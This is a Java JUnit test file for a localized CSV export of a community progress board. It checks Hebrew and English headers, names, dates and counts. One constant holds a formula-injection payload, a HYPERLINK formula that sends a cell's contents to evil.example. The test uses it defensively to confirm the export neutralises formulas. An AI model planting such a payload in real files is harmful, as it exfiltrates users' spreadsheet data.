package org.learningcommunities.lifecycle.progress;

import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.LocalDate;
import java.util.List;
import java.util.Locale;
import java.util.Map;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.learningcommunities.lifecycle.community.Stage;
import org.learningcommunities.lifecycle.progress.PagePeople.Names;

import org.springframework.context.support.ResourceBundleMessageSource;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * The board's CSV in the reader's language: headers and words of the page, people by
 * name, one language of each name, days as the page writes them, counts as numbers, and
 * no cell that a spreadsheet would run as a formula.
 */
class BoardCsvTests {

	private static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?x=\"&A2,\"Click me\")";

	private final ResourceBundleMessageSource messages = new ResourceBundleMessageSource();

	BoardCsvTests() {
		this.messages.setBasename("messages/messages");
		this.messages.setDefaultEncoding(StandardCharsets.UTF_8.name());
		this.messages.setFallbackToSystemLocale(false);
	}

	@Test
	void hebrewReaderGetsHebrewHeadersNamesAndWords() throws IOException {
		List<CSVRecord> records = read(Locale.forLanguageTag("he"));

		assertThat(records.get(0).values()).containsExactly("קוד", "קהילה", "תחום מקצועי", "מובילת הקהילה", "שלב",
				"השלב הנוכחי", "משימות פתוחות", "משימות באיחור", "המפגש הבא", "נושא המפגש הבא",
				"תוכניות עבודה הממתינות לאישור");
		assertThat(records.get(1).values()).containsExactly("econ-dev-2026", "פיתוח כלכלי", "Economic development",
				"Lea Levi", "שנה א׳", "בחירת הגרעין המוביל", "3", "1", "21/09/2027", "נכסים מניבים",
				"תוכנית העבודה לשנה 1, גרסה 2: ממתינה לאישור");
	}

	@Test
	void englishReaderGetsEnglishHeadersAndValues() throws IOException {
		List<CSVRecord> records = read(Locale.ENGLISH);

		assertThat(records.get(0).get(0)).isEqualTo("Code");
		assertThat(records.get(1).values()).containsExactly("econ-dev-2026", "Economic development",
				"Economic development", "Lea Levi", "Year one", "Choose the leading core", "3", "1", "21/09/2027",
				"Income-producing assets", "Year 1 work plan, version 2: awaiting approval");
	}

	@Test
	void countsAreBareNumbersAndAFormulaInATopicIsText() {
		String csv = csv(page("econ-dev-2026", HYPERLINK), Locale.ENGLISH);

		String line = csv.lines().toList().get(1);
		assertThat(line).contains(",3,1,").contains("\"'=HYPERLINK(").doesNotContain(",=HYPERLINK", "\"=HYPERLINK");
	}

	private List<CSVRecord> read(Locale locale) throws IOException {
		String csv = csv(page("econ-dev-2026", "נכסים מניבים · Income-producing assets"), locale);
		assertThat(csv).startsWith("\uFEFF");
		return CSVFormat.RFC4180.parse(new StringReader(csv.substring(1))).getRecords();
	}

	private String csv(Board.Page page, Locale locale) {
		Names names = new Names(Map.of("leader", "Lea Levi"), this.messages, locale);
		return new String(BoardCsv.write(page, names, this.messages, locale), StandardCharsets.UTF_8);
	}

	private static Board.Page page(String code, String topic) {
		Instant now = Instant.parse("2027-09-01T08:00:00Z");
		Board.Task task = new Board.Task("t1", "choose-forums", "בחירת הגרעין המוביל / Choose the leading core",
				"year-one", "leader", List.of("community-leaders"), now, false, Board.TASKLIST_TASK + "t1", null);
		Board.Row row = new Board.Row(code, "פיתוח כלכלי · Economic development", "Economic development", "leader",
				"foundation", "ministry", Stage.YEAR_ONE, task.name(), 3, 1, null, List.of(), List.of(task),
				List.of(new Board.UpcomingMeeting(1, 1, LocalDate.of(2027, 9, 21), topic, "לוד", false, false)),
				List.of(new Board.PendingApproval(1, "AWAITING_APPROVAL", 2, List.of("foundation"))));
		return new Board.Page(0, Integer.MAX_VALUE, 1, 1, new Board.Filters(null, null, null, false), List.of(row));
	}

}
